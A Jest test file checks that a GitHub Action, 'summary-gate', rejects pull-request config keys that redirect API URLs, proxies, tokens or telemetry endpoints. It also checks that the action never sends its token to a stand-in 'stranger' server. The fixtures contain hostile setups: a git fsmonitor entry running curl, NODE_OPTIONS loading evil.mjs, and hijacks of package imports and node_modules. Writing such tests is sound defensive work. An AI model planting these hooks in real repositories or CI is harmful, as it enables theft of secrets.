import { describe, expect, it } from '@jest/globals';
import { mergeGroupEvent, pullRequestEvent, pullRequestTargetEvent, type Trigger } from '../servers/events.js';
import { type FakeGitHub, startGitHub } from '../servers/github.js';
import { type ActionResult, runAction } from '../servers/runner.js';
import { GREEN, gitHub, writesTo } from './pull-request.js';

/** Where a pull request would like the token or a key to go. */
async function withStranger(test: (stranger: FakeGitHub) => Promise<void>): Promise<void> {
  const stranger = await startGitHub();
  try {
    await test(stranger);
    expect(stranger.requests).toEqual([]);
  } finally {
    await stranger.stop();
  }
}

const CONFIG = '.github/summary-gate.yml';

function expectRefused({ exitCode, outputs, log }: ActionResult, name: string): void {
  expect(exitCode).toBe(2);
  expect(outputs).toMatchObject({ verdict: 'error', passed: 'false', 'report-path': '' });
  expect(log).toMatch(new RegExp(`::error file=.github/summary-gate\\.yml,line=1,col=1::.*${name}`));
}

describe('a pull request whose config file names', () => {
  it.each<[string, (evil: string) => string]>([
    ['anthropic-base-url', (evil) => evil],
    ['anthropic-api-key', () => 'sk-of-the-attacker'],
    ['github-token', () => 'token-of-the-attacker'],
    ['GITHUB_API_URL', (evil) => evil],
    ['github-api-url', (evil) => evil],
    ['api-url', (evil) => evil],
    ['base-url', (evil) => evil],
    ['https_proxy', (evil) => evil],
    ['OTEL_EXPORTER_OTLP_ENDPOINT', (evil) => evil],
    ['pull-request', () => '1'],
    ['check-run', () => 'build'],
    ['warn-only', () => 'true'],
    ['working-directory', () => '/'],
    ['config', () => 'other.yml'],
  ])('%s is refused, and nothing goes anywhere', async (name, value) => {
    await withStranger(async (stranger) => {
      const files = { ...GREEN, [CONFIG]: `${name}: ${JSON.stringify(value(stranger.apiUrl))}\n` };
      const github = await gitHub();
      const trigger: readonly Trigger[] = [mergeGroupEvent(), pullRequestEvent()];
      const [queued, pulled] = await Promise.all(
        trigger.map((event, i) => runAction({ ...event, files, ...(i === 1 && { github }) })),
      );
      if (queued === undefined || pulled === undefined) throw new Error('no runs');
      expectRefused(queued, name);
      expectRefused(pulled, name);
      // The only question is whether there is a comment to bring up to date.
      expect(github.requests.map(({ method, path }) => `${method} ${path}`)).toEqual([
        'GET /repos/acme/widgets/issues/7/comments',
      ]);
      for (const { log, summary } of [queued, pulled]) {
        expect(log.replaceAll(`::add-mask::${github.token}`, '') + summary).not.toContain(github.token);
      }
    });
  });
});

describe('a pull request whose files look like those of a tool', () => {
  it('sends the token nowhere else', async () => {
    await withStranger(async (stranger) => {
      const github = await gitHub();
      const { exitCode } = await runAction({
        ...pullRequestTargetEvent(),
        github,
        process: 'own',
        files: {
          ...GREEN,
          '.env': `GITHUB_API_URL=${stranger.apiUrl}\nhttps_proxy=${stranger.apiUrl}\nNODE_OPTIONS=--import=./evil.mjs\n`,
          '.npmrc': `proxy=${stranger.apiUrl}\n`,
          'evil.mjs': `await fetch(${JSON.stringify(stranger.apiUrl)});`,
          'package.json': { type: 'commonjs', imports: { '@actions/github': './evil.mjs' } },
          'node_modules/@actions/github/package.json': { main: '../../../evil.mjs' },
          '.git/config': `[core]\n\tfsmonitor = "curl ${stranger.apiUrl}; false"\n[remote "origin"]\n\turl = ${stranger.apiUrl}\n`,
          '.git/HEAD': 'ref: refs/heads/main\n',
          '.git/objects/info/packs': '',
          '.git/refs/heads/.keep': '',
        },
      });
      expect(exitCode).toBe(0);
      expect(writesTo(github)).toEqual(['POST /issues/7/comments']);
    });
  });
});
